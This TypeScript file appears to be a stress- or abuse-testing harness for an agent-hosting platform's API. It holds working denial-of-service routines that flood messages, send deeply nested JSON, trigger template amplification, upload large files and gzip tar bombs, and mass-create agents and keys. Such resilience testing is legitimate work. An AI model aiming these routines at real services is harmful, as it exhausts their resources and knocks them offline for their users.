import { buffer } from 'node:stream/consumers';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';
import { pack } from 'tar-stream';
import { type Attack, makeAgent, repeat } from './attack.js';

const UPLOAD_BYTES = 20_000_000;
/** Made by the attacker while the good account sends already: it shall cost the attacked, not the machine. */
const UNPACKED_BYTES = 100_000_000;

/** 40 agents are sent as much as they take. */
export const messageFlood: Attack = async (target) => {
  const agents = await Promise.all(Array.from({ length: 40 }, (_, n) => makeAgent(target, `flooded-${n}`)));
  const known = agents.filter((agent) => agent !== undefined);
  if (known.length === 0) return;
  await repeat(target, { callers: 32, most: 20_000 }, async (n) => {
    const content = n % 10 === 0 ? 'x'.repeat(90_000) : `flood ${n}`;
    const path = `/v1/agent/${known[n % known.length]}/messages`;
    return (await target.api('POST', path, { content, conversation_id: `c${n % 50}` })).status;
  });
};

export const deepJson: Attack = async (target) => {
  const agent = await makeAgent(target, 'deep');
  const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const bodies = [3_000, 100_000].map((depth) => `{"content":"x","metadata":${nested(depth)}}`);
  const headers = { 'content-type': 'application/json' };
  await repeat(target, { callers: 4, most: 1_000 }, async (n) => {
    if (n % 2 === 0) return (await target.api('POST', '/auth/login', nested(50_000), headers)).status;
    return (await target.api('POST', `/v1/agent/${agent}/messages`, bodies[n % 4 === 1 ? 0 : 1], headers)).status;
  });
};

/** A template of as many payloads as are taken, each filled with a megabyte of one kind or another. */
export const payloadBomb: Attack = async (target) => {
  const agent = await makeAgent(target, 'triggered');
  const made: { id: string; webhook_secret: string }[] = [];
  for (const placeholders of [5_000, 500, 50, 20]) {
    const body = { name: `bomb-${placeholders}`, message_template: '{{payload}}'.repeat(placeholders) };
    const answer = await target.api<{ id: string; webhook_secret: string }>(
      'POST',
      `/v1/agent/${agent}/triggers`,
      body,
    );
    target.count(`template of ${placeholders}: ${answer.status}`);
    if (answer.status === 201) made.push(answer.body);
  }
  if (made.length === 0) return;
  const payloads = [{ text: 'x'.repeat(900_000) }, `[${'1.0,'.repeat(49_000)}1]`, `[${'{},'.repeat(300_000)}1]`];
  await repeat(target, { callers: 4, most: 500 }, async (n) => {
    const { id, webhook_secret: secret } = made[n % made.length]!;
    const headers = { 'x-webhook-secret': secret, 'content-type': 'application/json' };
    return (await target.api('POST', `/v1/webhooks/triggers/${id}`, payloads[n % payloads.length], headers)).status;
  });
};

export const largeUploads: Attack = async (target) => {
  const agent = await makeAgent(target, 'uploads');
  const bytes = new Uint8Array(UPLOAD_BYTES);
  const headers = { 'content-type': 'application/octet-stream' };
  await repeat(target, { callers: 6, most: 200 }, async (n) => {
    const path = `/v1/agent/${agent}/filesystem/files/f${n % 6}?overwrite=true`;
    return (await target.api('POST', path, bytes, headers)).status;
  });
};

export const massCreation: Attack = async (target) => {
  const agent = await makeAgent(target, 'many');
  const schedule = { name: 's', cron_expression: '* * * * *', message_template: 'x', timezone: 'UTC' };
  await repeat(target, { callers: 8, most: 5_000 }, async (n) => {
    if (n % 3 === 0) return (await target.api('POST', '/v1/agent/create', { name: `m${n}` })).status;
    if (n % 3 === 1) return (await target.api('POST', `/v1/agent/${agent}/schedules`, schedule)).status;
    return (await target.api('POST', '/auth/platform_keys', { name: `k${n}` })).status;
  });
};

/** Archives that are a thousand times larger unpacked, and downloads of all there is. */
export const archives: Attack = async (target) => {
  const agent = await makeAgent(target, 'archives');
  const path = `/v1/agent/${agent}/filesystem/archive`;
  const bomb = await gzippedTar(UNPACKED_BYTES);
  const headers = { 'content-type': 'application/gzip' };
  await repeat(target, { callers: 4, most: 500 }, async (n) => {
    if (n % 4 === 0) return (await target.api('GET', `${path}/?format=zip`)).status;
    return (await target.api('POST', `${path}/unpacked${n}`, bomb, headers)).status;
  });
};

/** Agents with more of everything than any machine has. */
export const hugeDemands: Attack = (target) =>
  repeat(target, { callers: 2, most: 1_000 }, async (n) => {
    const resources = n % 2 === 0 ? { cpu: '64', memory: '500Gi' } : { pvc_size: '500Gi' };
    const body = { name: `huge-${n}`, configuration: { resources } };
    return (await target.api('POST', '/v1/agent/create', body)).status;
  });

async function gzippedTar(bytes: number): Promise<Uint8Array<ArrayBuffer>> {
  const tar = pack();
  const zeros = Buffer.alloc(1_000_000);
  const filled = pipeline(
    function* () {
      for (let left = bytes; left > 0; left -= zeros.length) yield zeros;
    },
    tar.entry({ name: 'zeros', size: bytes }),
  ).then(() => tar.finalize());
  const [packed] = await Promise.all([buffer(tar.pipe(createGzip())), filled]);
  return new Uint8Array(packed);
}
